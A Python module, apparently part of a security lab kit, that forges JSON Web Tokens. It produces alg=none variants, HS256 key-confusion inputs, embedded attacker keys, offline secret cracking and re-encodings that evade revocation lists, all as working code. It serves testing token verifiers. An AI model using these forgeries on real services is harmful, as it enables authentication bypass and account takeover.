"""Forging tokens: what anybody can write without a key, and what a found key is good for. No HTTP here.

The attacks present these to a server; a verifier of one's own can be given them directly.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Iterable, Iterator, Mapping
from importlib.resources import files
from typing import Any

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, utils
from cryptography.hazmat.primitives.hashes import SHA256
from jwt import PyJWK

from labserver.kit.stopped import keep

ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
OWN_WORDS = ("secret", "key", "jwt", "changeme", "development", "your-256-bit-secret", "labserver", "flask")


def b64(data: bytes) -> str:
    """Write base64url without padding (RFC 7515 section 2)."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def unb64(text: str) -> bytes:
    """Read base64url without padding."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def segment(fields: Mapping[str, Any]) -> str:
    """Write a header or a payload."""
    return b64(json.dumps(fields, separators=(",", ":")).encode())


def fields(token: str, part: int) -> dict[str, Any]:
    """Read a token's header (0) or payload (1), as anybody can."""
    read: dict[str, Any] = json.loads(unb64(token.split(".")[part]))
    return read


def unsigned(claims: Mapping[str, Any], header: Mapping[str, Any]) -> list[str]:
    """Say in each spelling that there is no signature, and send none (RFC 8725 section 3.2)."""
    return [
        f"{segment({**header, 'alg': alg})}.{segment(claims)}."
        for alg in ("none", "None", "NONE", "nOnE", "")
    ]


def hmac_signed(claims: Mapping[str, Any], header: Mapping[str, Any], secret: bytes) -> str:
    """Sign with a shared secret (HS256), whatever bytes it is made of."""
    signed = f"{segment({**header, 'alg': 'HS256'})}.{segment(claims)}"
    return f"{signed}.{b64(hmac.digest(secret, signed.encode(), hashlib.sha256))}"


def public_bytes(jwk: Mapping[str, Any]) -> list[bytes]:
    """Write a public key as a server may have it in a file: PEM, with and without its last line end."""
    key: Any = PyJWK(dict(jwk)).key
    pem: bytes = key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    return [pem, pem.rstrip(b"\n")]


def signed_by_own_key(claims: Mapping[str, Any], header: Mapping[str, Any]) -> str:
    """Make a key, sign with it, and put its public half into the header as `jwk`."""
    key = ec.generate_private_key(ec.SECP256R1())
    point = key.public_key().public_numbers()
    jwk = {
        "kty": "EC",
        "crv": "P-256",
        "x": b64(point.x.to_bytes(32, "big")),
        "y": b64(point.y.to_bytes(32, "big")),
    }
    signed = f"{segment({**header, 'alg': 'ES256', 'jwk': jwk})}.{segment(claims)}"
    r, s = utils.decode_dss_signature(key.sign(signed.encode(), ec.ECDSA(SHA256())))
    return f"{signed}.{b64(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


def words() -> Iterator[str]:
    """List what people think up for a secret, likely ones first."""
    common = files("labserver.auth").joinpath("common-passwords.txt").read_text("utf-8").split()
    for word in (*OWN_WORDS, *common):
        yield from (word, word.capitalize(), word + "1", word + "123", word + "!")


def crack(token: str, guesses: Iterable[str]) -> tuple[bytes | None, int]:
    """Find the word that signed an HS256 token, offline, and say after how many guesses; None if none did."""
    signed, _, signature = token.rpartition(".")
    wanted, count = unb64(signature), 0
    with keep(lambda: (f"{count:,} guesses", (None, count))):
        for count, word in enumerate(guesses, 1):
            if hmac.digest(word.encode(), signed.encode(), hashlib.sha256) == wanted:
                return word.encode(), count
    return None, count


def changed(token: str) -> Iterator[str]:
    """Change one character, at three places in each part, to its neighbour in the alphabet."""
    start = 0
    for part in token.split("."):
        for place in {start, start + len(part) // 2, start + len(part) - 1}:
            if token[place : place + 1].strip("."):
                other = ALPHABET[(ALPHABET.index(token[place]) + 1) % 64]
                yield token[:place] + other + token[place + 1 :]
        start += len(part) + 1


def re_encoded(token: str) -> list[str]:
    """Write the same token in other ways, each of which would slip past a list of revoked ones."""
    header, payload, signature = token.split(".")
    loose = b64(json.dumps(fields(token, 0), indent=1).encode())
    return [
        f"{header}.{payload}.{signature}{'=' * (-len(signature) % 4 or 1)}",
        f"{header}=.{payload}.{signature}",
        f"{header}.{payload}.{signature}.",
        f"{loose}.{payload}.{signature}",
        f"{header}.{payload}.{signature}\t",
        f"{header}.{payload}.{signature}%3D",
    ]
